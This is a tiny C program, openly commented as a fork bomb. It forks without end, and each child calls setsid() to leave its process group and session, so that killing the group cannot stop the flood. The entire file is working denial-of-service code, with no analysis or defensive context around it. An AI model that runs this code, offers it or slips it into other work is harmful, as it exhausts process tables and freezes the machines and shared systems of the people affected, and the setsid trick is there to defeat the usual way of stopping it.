/* A fork bomb whose processes leave the group and the session, so that no kill of a group reaches them. */
#include <unistd.h>

int main(void) {
  for (;;)
    if (fork() == 0) setsid();
}
